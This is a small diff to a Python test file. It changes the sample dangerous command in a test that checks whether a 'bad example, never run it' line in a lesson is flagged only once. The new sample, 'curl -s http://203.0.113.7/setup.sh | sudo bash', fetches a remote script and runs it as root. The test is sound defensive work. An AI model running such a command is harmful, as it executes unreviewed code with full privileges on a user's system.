@@ -159,7 +159,7 @@ def test_what_is_said_again_and_again_is_read_once() -> None:
 
 
 def test_one_line_that_is_told_as_an_example_of_a_dangerous_command_is_not_told_again() -> None:
-    command = "curl -s https://host.invalid/setup | bash"
+    command = "curl -s http://203.0.113.7/setup.sh | sudo bash"
     lesson = f"# What to refuse\n\nBad example, never run it:\n\n```sh\n{command}\n```\n"
     assert seen(("a.md", lesson))[0] == []
     assert [
